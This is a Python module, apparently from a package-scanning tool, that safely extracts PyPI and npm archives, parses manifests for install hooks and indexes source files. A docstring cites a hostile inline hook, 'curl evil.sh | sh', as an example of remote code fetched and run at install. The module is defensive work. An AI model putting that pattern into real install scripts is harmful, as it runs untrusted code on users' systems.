"""Package ingestion: archive extraction, manifest parsing, source enumeration.

A loaded ``Package`` is immutable and safe to share across threads; distinct
archives may be extracted in parallel.
"""

from __future__ import annotations

import json
import re
import shutil
import tarfile
import tempfile
import zipfile
from dataclasses import dataclass
from enum import Enum
from pathlib import Path, PurePosixPath

from .errors import ArchiveCorrupt, ArchiveTooLarge, ManifestUnparseable

DEFAULT_SIZE_CAP = 512 * 1024 * 1024  # decompressed bytes

PYTHON_EXTENSIONS = {".py"}
JAVASCRIPT_EXTENSIONS = {".js", ".cjs", ".mjs"}

# package.json lifecycle hooks that run automatically at install, in hook order
NPM_INSTALL_HOOKS = ("preinstall", "install", "postinstall")


class Ecosystem(Enum):
    PYPI = "pypi"
    NPM = "npm"


class Language(Enum):
    PYTHON = "python"
    JAVASCRIPT = "javascript"
    OTHER = "other"


def language_of(path: str) -> Language:
    suffix = PurePosixPath(path).suffix.lower()
    if suffix in PYTHON_EXTENSIONS:
        return Language.PYTHON
    if suffix in JAVASCRIPT_EXTENSIONS:
        return Language.JAVASCRIPT
    return Language.OTHER


@dataclass(frozen=True)
class SourceFile:
    path: str  # relative to package root, POSIX separators
    language: Language
    content: str  # lossy UTF-8 so binary-ish files never abort a scan


@dataclass(frozen=True)
class Manifest:
    install_script_paths: tuple[str, ...] = ()
    raw: tuple[tuple[str, str], ...] = ()  # flattened manifest fields, order-stable

    def raw_dict(self) -> dict[str, str]:
        return dict(self.raw)


@dataclass(frozen=True)
class Package:
    name: str
    version: str
    ecosystem: Ecosystem
    root: Path
    manifest: Manifest
    sources: tuple[SourceFile, ...]
    warnings: tuple[str, ...] = ()

    def source(self, path: str) -> SourceFile | None:
        for src in self.sources:
            if src.path == path:
                return src
        return None


def _is_unsafe_member(name: str) -> bool:
    # Reject absolute paths, traversal components, and names that normalize
    # to nothing (".", "./", empty).
    if name.startswith(("/", "\\")) or re.match(r"^[A-Za-z]:", name):
        return True
    parts = [p for p in PurePosixPath(name.replace("\\", "/")).parts if p != "."]
    return not parts or ".." in parts


def _extract_tar(archive_path: Path, dest: Path, size_cap: int) -> None:
    try:
        tar = tarfile.open(archive_path, "r:*")
    except (tarfile.TarError, OSError, EOFError) as exc:
        raise ArchiveCorrupt(f"not a readable tar archive: {archive_path}") from exc
    total = 0
    with tar:
        for member in tar:
            if _is_unsafe_member(member.name):
                continue
            if member.issym() or member.islnk():
                continue  # links can point outside the scan dir
            if member.isdir():
                (dest / member.name).mkdir(parents=True, exist_ok=True)
                continue
            if not member.isfile():
                continue
            total += member.size
            if total > size_cap:
                raise ArchiveTooLarge(f"decompressed size exceeds {size_cap} bytes")
            target = dest / member.name
            fobj = tar.extractfile(member)
            if fobj is None:
                continue
            try:
                target.parent.mkdir(parents=True, exist_ok=True)
                with fobj, open(target, "wb") as out:
                    shutil.copyfileobj(fobj, out)
            except (FileExistsError, IsADirectoryError, NotADirectoryError):
                continue  # conflicting member names (file vs dir); skip


def _extract_zip(archive_path: Path, dest: Path, size_cap: int) -> None:
    try:
        zf = zipfile.ZipFile(archive_path)
    except (zipfile.BadZipFile, OSError) as exc:
        raise ArchiveCorrupt(f"not a readable zip archive: {archive_path}") from exc
    total = 0
    with zf:
        for info in zf.infolist():
            if _is_unsafe_member(info.filename):
                continue
            if info.is_dir():
                (dest / info.filename).mkdir(parents=True, exist_ok=True)
                continue
            total += info.file_size
            if total > size_cap:
                raise ArchiveTooLarge(f"decompressed size exceeds {size_cap} bytes")
            target = dest / info.filename
            try:
                target.parent.mkdir(parents=True, exist_ok=True)
                with zf.open(info) as fobj, open(target, "wb") as out:
                    shutil.copyfileobj(fobj, out)
            except (FileExistsError, IsADirectoryError, NotADirectoryError):
                continue  # conflicting member names (file vs dir); skip


def _flatten(prefix: str, value: object, out: list[tuple[str, str]]) -> None:
    if isinstance(value, dict):
        for key, sub in value.items():
            _flatten(f"{prefix}.{key}" if prefix else str(key), sub, out)
    elif isinstance(value, list):
        for i, sub in enumerate(value):
            _flatten(f"{prefix}[{i}]", sub, out)
    else:
        out.append((prefix, "" if value is None else str(value)))


def parse_manifest(ecosystem: Ecosystem, root: Path,
                   warnings: list[str] | None = None) -> Manifest:
    """Parse the install-relevant manifest under ``root``.

    Missing manifest files yield an empty Manifest.  A malformed package.json
    records a warning (the scan continues) per the ManifestUnparseable rule.
    """
    if ecosystem is Ecosystem.PYPI:
        # pip runs setup.py at the package root during installation
        if (root / "setup.py").is_file():
            return Manifest(install_script_paths=("setup.py",))
        return Manifest()

    manifest_path = root / "package.json"
    if not manifest_path.is_file():
        return Manifest()
    try:
        data = json.loads(manifest_path.read_text(encoding="utf-8", errors="replace"))
        if not isinstance(data, dict):
            raise ValueError("package.json root is not an object")
    except ValueError as exc:
        if warnings is not None:
            warnings.append(f"package.json unparseable: {exc}")
            return Manifest()
        raise ManifestUnparseable(str(exc)) from exc

    raw: list[tuple[str, str]] = []
    _flatten("", data, raw)

    scripts = data.get("scripts")
    install_paths: list[str] = []
    if isinstance(scripts, dict):
        for hook in NPM_INSTALL_HOOKS:
            command = scripts.get(hook)
            if not isinstance(command, str):
                continue
            resolved = _resolve_script_file(command, root)
            if resolved is not None:
                install_paths.append(resolved)
    return Manifest(install_script_paths=tuple(install_paths), raw=tuple(raw))


def _resolve_script_file(command: str, root: Path) -> str | None:
    """Map an npm hook command to an in-package script file, if any.

    Inline shell commands ("curl evil.sh | sh") resolve to nothing; they stay
    visible in Manifest.raw only.
    """
    tokens = command.split()
    if not tokens:
        return None
    # "node lib/setup.js", "sh scripts/x.sh", or a bare "./setup.js"
    candidates = tokens[1:] if tokens[0] in {"node", "sh", "bash", "python", "python3"} else tokens[:1]
    for token in candidates:
        if token.startswith("-"):
            continue
        rel = token.lstrip("./")
        if not rel or _is_unsafe_member(rel):
            continue
        if (root / rel).is_file():
            return str(PurePosixPath(rel))
        return None
    return None


def _enumerate_sources(root: Path) -> tuple[SourceFile, ...]:
    sources = []
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        rel = path.relative_to(root).as_posix()
        content = path.read_bytes().decode("utf-8", errors="replace")
        sources.append(SourceFile(path=rel, language=language_of(rel), content=content))
    return tuple(sources)


def _package_identity(ecosystem: Ecosystem, root: Path, archive_path: Path) -> tuple[str, str]:
    if ecosystem is Ecosystem.NPM:
        manifest_path = root / "package.json"
        if manifest_path.is_file():
            try:
                data = json.loads(manifest_path.read_text(encoding="utf-8", errors="replace"))
                if isinstance(data, dict) and data.get("name") and data.get("version"):
                    return str(data["name"]), str(data["version"])
            except ValueError:
                pass
    else:
        pkg_info = root / "PKG-INFO"
        if pkg_info.is_file():
            name = version = None
            for line in pkg_info.read_text(encoding="utf-8", errors="replace").splitlines():
                if line.startswith("Name:"):
                    name = line.split(":", 1)[1].strip()
                elif line.startswith("Version:"):
                    version = line.split(":", 1)[1].strip()
                if name and version:
                    return name, version
    # fall back to the "<name>-<version>" archive stem convention
    stem = archive_path.name
    for suffix in (".tar.gz", ".tgz", ".zip", ".whl", ".tar"):
        if stem.endswith(suffix):
            stem = stem[: -len(suffix)]
            break
    if "-" in stem:
        name, _, version = stem.rpartition("-")
        if version and version[0].isdigit():
            return name, version
    return stem or "unknown", "0"


def load_package(archive_path: str | Path, ecosystem: Ecosystem,
                 size_cap: int = DEFAULT_SIZE_CAP,
                 dest_dir: str | Path | None = None) -> Package:
    """Extract an archive into a scan-private directory and index it.

    Supports gzip tarballs (.tar.gz/.tgz), zip and wheel archives.  Entries
    with traversal components or absolute paths are stripped; links are not
    extracted.  Raises ArchiveCorrupt / ArchiveTooLarge.
    """
    archive_path = Path(archive_path)
    dest = Path(dest_dir) if dest_dir is not None else Path(tempfile.mkdtemp(prefix="seqscan-"))
    dest.mkdir(parents=True, exist_ok=True)
    name = archive_path.name.lower()
    try:
        if name.endswith((".zip", ".whl")):
            _extract_zip(archive_path, dest, size_cap)
        elif name.endswith((".tar.gz", ".tgz", ".tar")):
            _extract_tar(archive_path, dest, size_cap)
        else:
            # unknown extension: try both containers before giving up
            try:
                _extract_tar(archive_path, dest, size_cap)
            except ArchiveCorrupt:
                _extract_zip(archive_path, dest, size_cap)
    except (ArchiveTooLarge, ArchiveCorrupt):
        if dest_dir is None:
            shutil.rmtree(dest, ignore_errors=True)
        raise

    # sdists and npm tarballs wrap everything in a single top-level directory
    root = dest
    entries = list(root.iterdir())
    if len(entries) == 1 and entries[0].is_dir():
        root = entries[0]

    warnings: list[str] = []
    manifest = parse_manifest(ecosystem, root, warnings=warnings)
    sources = _enumerate_sources(root)
    pkg_name, pkg_version = _package_identity(ecosystem, root, archive_path)
    return Package(
        name=pkg_name,
        version=pkg_version,
        ecosystem=ecosystem,
        root=root,
        manifest=manifest,
        sources=sources,
        warnings=tuple(warnings),
    )


def cleanup_package(package: Package) -> None:
    """Remove the scan-private extraction directory."""
    root = package.root
    if root.parent.name.startswith("seqscan-"):
        root = root.parent
    shutil.rmtree(root, ignore_errors=True)
